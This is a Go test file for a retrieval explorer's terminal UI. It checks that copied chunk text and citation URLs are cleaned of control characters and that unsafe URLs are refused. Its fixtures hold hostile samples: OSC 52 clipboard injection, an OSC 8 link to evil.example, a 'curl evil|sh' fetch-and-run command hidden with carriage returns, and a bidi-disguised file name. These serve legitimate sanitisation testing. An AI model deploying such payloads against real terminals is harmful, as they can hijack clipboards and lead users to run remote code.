package ui

import (
	"context"
	"errors"
	"strings"
	"testing"

	"ragscope/retrieval"
	"ragscope/ui/clipboard"
)

// poisoned is the clipboard audit's chunk text (issue 25, point 1): ESC
// sequences, OSC 52, OSC 8, OSC 0, DCS, a C1 CSI, CR, BS and U+202E.
const poisoned = "Nodes \x1b[31mtalk\x1b[0m\x1b]52;c;ZXZpbA==\x07 over \x1b]8;;https://evil.example\x1b\\topics\x1b]8;;\x1b\\" +
	"\x1b]0;pwned\x07.\x1bPq#0;2;0;0;0\x1b\\ \u009b31m\x9b2m curl evil|sh\r\x08\x08ls \u202etxt.exe\n\tend"

// poisonedRetriever returns one chunk carrying poisoned text, with a
// citation URL that is clean unless url says otherwise.
type poisonedRetriever struct{ url string }

func (p poisonedRetriever) Retrieve(_ context.Context, q retrieval.Query) (retrieval.Result, error) {
	c := retrieval.Chunk{ID: "p1", Text: poisoned, Title: "Poison" + poisoned, Section: "S", DocPath: "docs/p.md", URL: p.url}
	h := retrieval.Hit{Rank: 1, Score: 0.9, Chunk: c, Citation: retrieval.Citation{URL: p.url, Source: "payload", Title: c.Title, Section: c.Section}}
	res := retrieval.Result{Question: q.Question, Mode: retrieval.ModeNormal, Hits: []retrieval.Hit{h}, Dropped: []retrieval.DroppedHit{},
		Params: retrieval.Params{TopK: q.TopK}}
	res.Grounded = retrieval.Ground(res.Hits)
	return res, nil
}

// outboundControl returns the first character nothing outbound may
// carry: C0 controls but newline and tab, DEL, C1, bidi controls.
func outboundControl(s string) (rune, bool) {
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) ||
			(r >= 0x202A && r <= 0x202E) || (r >= 0x2066 && r <= 0x2069) {
			return r, true
		}
	}
	return 0, false
}

// poisonModel is the explorer over p at 120x40, a question asked and the
// results pane focused; copies go to the returned list, opened links to
// the other.
func poisonModel(t *testing.T, p poisonedRetriever) (Model, *[]string, *[]string) {
	t.Helper()
	opts, copied := testOptions(&fakeRetriever{})
	opts.Retriever = p
	var opened []string
	opts.OpenURL = func(u string) error { opened = append(opened, u); return nil }
	m := sized(t, opts, 120, 40)
	m = ask(t, m, "nodes")
	m = feed(t, m, m.setFocus(focusResults))
	return m, copied, &opened
}

// `y` and `Y` on a poisoned chunk put no control character on the
// clipboard (issue 25, point 1).
func TestCopyPoisonedChunkIsSanitised(t *testing.T) {
	m, copied, _ := poisonModel(t, poisonedRetriever{url: "https://book.example.org/docs/p#s"})
	m = feed(t, m, keyRunes("y"), keyRunes("Y"))
	if len(*copied) != 2 {
		t.Fatalf("copies %q, want the URL and the context; status %q", *copied, m.Status())
	}
	if (*copied)[0] != "https://book.example.org/docs/p#s" {
		t.Errorf("URL copied as %q", (*copied)[0])
	}
	ctx := (*copied)[1]
	if r, bad := outboundControl(ctx); bad {
		t.Errorf("grounded context carries %U: %q", r, ctx)
	}
	for _, want := range []string{"Nodes talk over topics", "curl evil|sh", "txt.exe\n\tend"} {
		if !strings.Contains(ctx, want) {
			t.Errorf("grounded context lost %q: %q", want, ctx)
		}
	}
	if !strings.Contains(m.Status(), "Copied the grounded context") {
		t.Errorf("status %q", m.Status())
	}
}

// Every way a copy leaves (tmux's buffer, the system clipboard, OSC 52)
// carries the sanitised text.
func TestCopyEveryPathSanitised(t *testing.T) {
	noSys := func(string) error { return errors.New("no xclip") }
	var sys string
	okSys := func(s string) error { sys = s; return nil }
	ft := &fakeTmux{mode: "external"}
	msg := clipboard.CopyCmd(t.Context(), clipboard.Env{InTmux: true, Tmux: ft.run, System: noSys}, "x", poisoned)().(clipboard.Msg)
	if msg.Outcome != clipboard.CopiedTmux {
		t.Fatalf("outcome %d", msg.Outcome)
	}
	msg2 := clipboard.CopyCmd(t.Context(), clipboard.Env{System: okSys}, "x", poisoned)().(clipboard.Msg)
	if msg2.Outcome != clipboard.CopiedSystem {
		t.Fatalf("outcome %d", msg2.Outcome)
	}
	msg3 := clipboard.CopyCmd(t.Context(), clipboard.Env{System: noSys}, "x", poisoned)().(clipboard.Msg)
	if msg3.Outcome != clipboard.CopiedOSC52 {
		t.Fatalf("outcome %d", msg3.Outcome)
	}
	for name, got := range map[string]string{"tmux": ft.loaded, "system": sys, "osc52": msg3.OSC52} {
		if r, bad := outboundControl(got); bad || got == "" {
			t.Errorf("%s received %U: %q", name, r, got)
		}
	}
}

// A citation URL with a control or bidi character is neither copied
// (`y`) nor opened (`o`): the status line says why (issue 25, point 1).
func TestUnsafeURLRefused(t *testing.T) {
	for name, u := range map[string]string{
		"esc":  "https://x.org/a\x1b]52;c;ZXZpbA==\x07",
		"cr":   "https://x.org/a\rcurl evil|sh",
		"bidi": "https://x.org/\u202etxt.exe",
		"c1":   "https://x.org/a\u009b2J",
		"bs":   "https://x.org/a\x08",
	} {
		t.Run(name, func(t *testing.T) {
			m, copied, opened := poisonModel(t, poisonedRetriever{url: u})
			m = feed(t, m, keyRunes("y"))
			if len(*copied) != 0 {
				t.Errorf("y copied %q", *copied)
			}
			if m.statusKind != statusErr || !strings.Contains(m.Status(), "Not copied") {
				t.Errorf("y status %q", m.Status())
			}
			m = feed(t, m, keyRunes("o"))
			if len(*opened) != 0 {
				t.Errorf("o opened %q", *opened)
			}
			if m.statusKind != statusErr || !strings.Contains(m.Status(), "Not opened") {
				t.Errorf("o status %q", m.Status())
			}
			if r, bad := outboundControl(m.Status()); bad {
				t.Errorf("status carries %U", r)
			}
		})
	}
}
